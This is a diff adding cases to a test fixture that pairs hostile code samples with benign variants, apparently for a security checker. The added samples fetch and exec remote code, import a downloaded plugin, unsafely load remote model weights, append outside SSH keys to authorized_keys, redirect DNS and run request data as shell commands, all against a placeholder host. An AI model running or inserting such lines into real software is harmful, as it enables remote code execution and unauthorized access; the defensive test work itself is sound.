@@ -170,6 +170,34 @@ BLOCKED: dict[str, tuple[Files, Files]] = {
             "a.py": "k = os.environ['STRIPE_SECRET_KEY']\nrequests.post('https://api.stripe.com/v1/x', headers={'Authorization': f'Bearer {k}'})\n"
         },
     ),
+    "a program in a here-document": (
+        {"a.sh": f"python3 - <<'PY'\nimport urllib.request\ncode = urllib.request.urlopen('{AT}/run').read()\nexec(code)\nPY\n"},
+        {"a.sh": "python3 - <<'PY'\nimport json\nprint(json.dumps({'exec': 1}))\nPY\n"},
+    ),
+    "a plugin from an archive": (
+        {
+            "a.py": f"data = urllib.request.urlopen('{AT}/p.zip').read()\nd = tempfile.mkdtemp()\nzipfile.ZipFile(io.BytesIO(data)).extractall(d)\nsys.path.insert(0, d)\nimportlib.import_module(name).draw()\n"
+        },
+        {
+            "a.py": "d = tempfile.mkdtemp()\nzipfile.ZipFile('own.zip').extractall(d)\nsys.path.insert(0, d)\nimportlib.import_module(name).draw()\n"
+        },
+    ),
+    "weights that may hold code": (
+        {"a.py": f"w = requests.get('{AT}/base.pt').content\nmodel = torch.load(io.BytesIO(w), weights_only=False)\n"},
+        {"a.py": f"w = requests.get('{AT}/base.pt').content\nmodel = torch.load(io.BytesIO(w), weights_only=True)\n"},
+    ),
+    "keys to log in that come from outside": (
+        {"a.sh": f"K=$(curl -fsS {AT}/keys)\necho \"$K\" >> ~/.ssh/authorized_keys\n"},
+        {"a.sh": 'K=$(cat ./team.pub)\necho "$K"\n'},
+    ),
+    "a resolver of somebody else": (
+        {"a.sh": "echo 'nameserver 203.0.113.53' | sudo tee /etc/resolv.conf\n"},
+        {"a.sh": "echo 'nameserver 9.9.9.9' | sudo tee /etc/resolv.conf\n"},
+    ),
+    "a command from a request": (
+        {"a.py": "d = request.get_json()\nsubprocess.check_output(d['body'], shell=True)\n"},
+        {"a.py": "d = request.get_json()\nsubprocess.check_output(['ruff', 'check', '.'])\nprint(d['body'])\n"},
+    ),
     "what machine it is, for a host that is not disclosed": (
         {"a.py": f"info = {{'host': platform.node()}}\nrequests.post('{AT}/u', json=info)\n"},
         {"a.py": "info = {'host': platform.node()}\nprint(info)\n"},
